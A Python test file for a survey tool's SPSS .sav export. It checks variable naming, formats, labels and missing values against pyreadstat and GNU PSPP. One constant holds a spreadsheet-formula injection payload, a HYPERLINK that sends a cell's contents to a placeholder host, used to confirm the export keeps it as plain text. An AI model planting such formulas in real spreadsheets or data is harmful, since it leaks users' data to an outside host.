"""SPSS .sav for every library template and the demo: legal names, formats, labels; read back
with pyreadstat and with GNU PSPP (`DISPLAY DICTIONARY`)."""
from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess

import numpy as np
import pyreadstat
import pytest

from survey.collect.csv_import import import_responses
from survey.exports.data import answer_columns, answer_labels
from survey.exports.spss import spss_names
from survey.instruments import build_instrument, library_names, load_template, to_document
from survey.studies.demo import simulate_responses
from survey.studies.service import create_study

LEGAL = re.compile(r"^[A-Za-z][A-Za-z0-9_]{0,63}$")
RESERVED = {"ALL", "AND", "BY", "EQ", "GE", "GT", "LE", "LT", "NE", "NOT", "OR", "TO", "WITH"}
FORMULA = '=HYPERLINK("http://contoh.invalid/?"&C2,"klik")'


def test_names_are_legal_unique_and_deterministic():
    codes = ["PROD-1.1", "PROD_1.1", "prod-1-1", "1.2", "and", "usía", "x" * 100, "x" * 100 + "-b", "Q1", "Q1_r"]
    names = spss_names(codes)
    assert names["PROD-1.1"] == "PROD_1_1" and names["PROD_1.1"] == "PROD_1_1_2"
    assert names["prod-1-1"] == "prod_1_1_3"  # SPSS names ignore case
    assert names["1.2"] == "V_1_2" and names["and"] == "and_v" and names["usía"] == "usia"
    assert names["Q1"] == "Q1" and names["Q1_r"] == "Q1_r"
    assert len(names["x" * 100]) == 64 and names["x" * 100 + "-b"] == "x" * 62 + "_2"
    assert all(LEGAL.match(n) and n.upper() not in RESERVED for n in names.values())
    assert len({n.upper() for n in names.values()}) == len(codes)
    assert spss_names(codes) == names


PAIRED = "servqual+pairing"  # a library document made paired, as a researcher would


def study_with_responses(db, template: str, n: int = 40):
    if template == PAIRED:
        doc = to_document(load_template("servqual", institution="Kantor Kecamatan Contoh"))
        doc["pairing"] = {"importance": {"name": "Harapan"}, "performance": {"name": "Kenyataan"}}
        instrument = build_instrument(doc)
    else:
        instrument = load_template(template)
    study = create_study(db.session, instrument, slug=template.replace("_", "-").replace("+", "-"))
    frame = simulate_responses(instrument, n, seed=7)
    first = instrument.answer_keys[0]
    frame.loc[0:2, first] = None  # missing answers
    if instrument.open_questions:
        frame[instrument.open_questions[0].code] = ["Antrean panjang"] * (n - 1) + [FORMULA]
    import_responses(db.session, study, instrument, frame.to_csv(index=False))
    db.session.commit()
    return study, instrument, frame


def pspp_dictionary(path, tmp_path) -> dict[str, dict]:
    """Variables as PSPP reads them: name -> {label, format, measure}."""
    syntax = tmp_path / "dictionary.sps"
    syntax.write_text(f"GET FILE='{path}'.\nDISPLAY DICTIONARY.\n", encoding="utf-8")
    out = tmp_path / "dictionary.csv"
    done = subprocess.run(["pspp", "-O", "format=csv", "-o", str(out), str(syntax)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stdout + done.stderr
    lines = out.read_text(encoding="utf-8").split("\n")
    start = lines.index("Table: Variables") + 1
    end = lines.index("", start)
    rows = list(csv.DictReader(io.StringIO("\n".join(lines[start:end]))))
    return {r["Name"]: {"label": r["Label"], "format": r["Print Format"], "measure": r["Measurement Level"]}
            for r in rows}


@pytest.mark.skipif(shutil.which("pspp") is None, reason="GNU PSPP not installed (.ci/run installs it)")
@pytest.mark.parametrize("template", [*library_names(), PAIRED])
def test_every_library_template_exports_a_sav_that_spss_tools_read(db, runner, tmp_path, template):
    study, instrument, frame = study_with_responses(db, template)
    path = tmp_path / "data.sav"
    result = runner.invoke(args=["export", study.slug, "--format", "sav", "-o", str(path)])
    assert result.exit_code == 0, result.output

    data, meta = pyreadstat.read_sav(str(path))
    columns = answer_columns(instrument)  # item codes, or both sides of each statement if paired
    reversed_ = answer_columns(instrument, reversed_copies=True)
    names = spss_names(["response_id", "submitted_at", "channel", *[c for c, _, _ in columns + reversed_],
                        *[q.code for q in instrument.demographics], *[q.code for q in instrument.open_questions]])
    assert meta.column_names == list(names.values())
    assert all(LEGAL.match(n) and n.upper() not in RESERVED for n in meta.column_names)
    labels = dict(zip(meta.column_names, meta.column_labels))
    formats = meta.original_variable_types
    assert formats[names["submitted_at"]] == "DATETIME20"
    assert str(data[names["submitted_at"]].dtype).startswith("datetime64")
    for column, item, side in columns:
        name = names[column]
        assert formats[name] == "F1.0"
        if side is None:
            assert labels[name] == (item.text if name == item.code else f"{item.code}: {item.text}")[:255]
        else:
            assert labels[name] == f"{item.code}: [{instrument.pairing.side(side).name}] {item.text}"[:255]
        item_labels = answer_labels(instrument, item, side)
        assert meta.variable_value_labels[name] == {float(i): lab for i, lab in enumerate(item_labels, 1)}
        assert meta.variable_measure[name] == "ordinal"
        expected = frame[column].to_numpy(dtype=float, na_value=np.nan)
        assert np.array_equal(data[name].to_numpy(), expected, equal_nan=True)
        if item.reverse:
            copy = column.replace(item.code, f"{item.code}_r", 1)
            assert np.array_equal(data[names[copy]].to_numpy(), 1 + instrument.scale.points - expected,
                                  equal_nan=True)
    assert data[names[columns[0][0]]].isna().sum() >= 3  # missing stays system-missing
    for q in instrument.demographics:
        if q.type == "choice":
            assert meta.variable_value_labels[names[q.code]] == {float(i): c for i, c in enumerate(q.choices, 1)}
    if instrument.open_questions:
        # SPSS does not run formulas: the .sav keeps the answer exactly as given.
        assert data[names[instrument.open_questions[0].code]].iloc[-1] == FORMULA

    pspp = pspp_dictionary(path, tmp_path)
    assert list(pspp) == meta.column_names
    for column, _, _ in columns:
        name = names[column]
        assert pspp[name]["format"] == "F1.0" and pspp[name]["measure"] == "Ordinal"
        assert pspp[name]["label"] == labels[name]
    assert pspp[names["submitted_at"]]["format"].startswith("DATETIME20")


@pytest.mark.skipif(shutil.which("pspp") is None, reason="GNU PSPP not installed (.ci/run installs it)")
def test_demo_study_exports_a_sav_pspp_reads(runner, tmp_path, db):
    assert runner.invoke(args=["demo", "--responses", "60"]).exit_code == 0
    path = tmp_path / "demo.sav"
    result = runner.invoke(args=["export", "demo", "--format", "sav", "-o", str(path)])
    assert result.exit_code == 0, result.output
    data, meta = pyreadstat.read_sav(str(path))
    assert len(data) == 60
    pspp = pspp_dictionary(path, tmp_path)
    assert list(pspp) == meta.column_names
    assert "PROD_1_1" in pspp and pspp["PROD_1_1"]["label"].startswith("PROD-1.1: ")
    assert pspp["PROD_1_1"]["format"] == "F1.0"
